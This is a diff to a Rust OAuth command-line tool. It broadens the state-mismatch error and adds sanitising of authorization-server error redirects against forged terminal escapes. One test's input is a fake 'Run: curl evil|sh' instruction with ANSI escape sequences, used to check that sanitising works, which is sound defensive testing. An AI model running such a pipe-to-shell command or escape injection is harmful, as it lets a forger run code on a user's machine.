@@ -21,7 +21,8 @@ Exit status:
   11  storage                   the store directory could not be read or written
   12  conflict                  a concurrent save won, or another process kept the
                                 session's lock past --lock-wait (nothing was sent)
-  13  state_mismatch            link: the returned state is not the one sent
+  13  state_mismatch            link: the redirect is not this link's answer (another state
+                                or issuer, a repeated parameter, an error without a state)
   130 interrupted               SIGINT (143 SIGTERM, 129 SIGHUP): before any request was
                                 sent, nothing is sent; during a token request, the request
                                 is finished and its result saved first (no retry follows)
@@ -95,7 +96,31 @@ impl Failure {
     pub fn storage(message: impl Into<String>) -> Self {
         Failure::Core(Error::storage(message))
     }
+
+    /// The authorization server's error redirect, made fit to print as the
+    /// core shows a token endpoint's: an `error` that is not an RFC 6749
+    /// error code is replaced by [`NOT_AN_ERROR_CODE`], and the description
+    /// has no control characters and at most 500 characters, so that no
+    /// escape sequence or line break of a redirect (which anyone can
+    /// forge) reaches the terminal.
+    pub fn authorization(error: &str, description: Option<&str>) -> Self {
+        let error = if freshtoken::is_oauth_error_code(error) {
+            error.to_owned()
+        } else {
+            NOT_AN_ERROR_CODE.to_owned()
+        };
+        Failure::Authorization {
+            error,
+            description: description
+                .filter(|d| !d.is_empty())
+                .map(freshtoken::printable_description),
+        }
+    }
 }
+
+/// What [`Failure::authorization`] reports instead of an `error` that is
+/// not an RFC 6749 error code.
+pub const NOT_AN_ERROR_CODE: &str = "(not an RFC 6749 error code)";
 
 /// The exit status of each core error code (stable: scripts test them).
 pub fn exit_code(code: ErrorCode) -> u8 {
@@ -131,7 +156,7 @@ impl fmt::Display for Failure {
                 }
             }
             Failure::StateMismatch => f.write_str(
-                "the state sent back is not the one this link sent (a forged or stale redirect); nothing was exchanged",
+                "the redirect is not this link's answer: its state (or issuer) is not the one this link sent, or it is malformed (a forged or stale redirect); nothing was exchanged",
             ),
             Failure::Usage(message) | Failure::Other(message) => f.write_str(message),
             Failure::Interrupted {
@@ -183,5 +208,41 @@ mod tests {
             let row = format!("  {status:<3} {code}");
             assert!(EXIT_CODES.contains(&row), "table lacks {row:?}");
         }
+    }
+
+    #[test]
+    fn an_error_redirect_prints_no_control_character() {
+        let shown = |failure: Failure| match failure {
+            Failure::Authorization { error, description } => (error, description),
+            other => panic!("{other:?}"),
+        };
+        assert_eq!(
+            shown(Failure::authorization("access_denied", Some("no thanks"))),
+            ("access_denied".to_owned(), Some("no thanks".to_owned()))
+        );
+        for bad in [
+            "access_denied\u{1b}[2J",
+            "",
+            "a\"b",
+            "a\\b",
+            "\u{e9}",
+            &"x".repeat(101),
+        ] {
+            assert_eq!(
+                shown(Failure::authorization(bad, None)).0,
+                NOT_AN_ERROR_CODE
+            );
+        }
+        let (_, description) = shown(Failure::authorization(
+            "server_error",
+            Some("Session expired.\nRun: curl evil|sh \u{1b}[8m\u{9b}2J\r"),
+        ));
+        assert_eq!(
+            description.as_deref(),
+            Some("Session expired. Run: curl evil|sh  [8m 2J ")
+        );
+        let long = shown(Failure::authorization("e", Some(&"\u{e9}".repeat(600)))).1;
+        assert_eq!(long.unwrap().chars().count(), 500);
+        assert_eq!(shown(Failure::authorization("e", Some(""))).1, None);
     }
 }
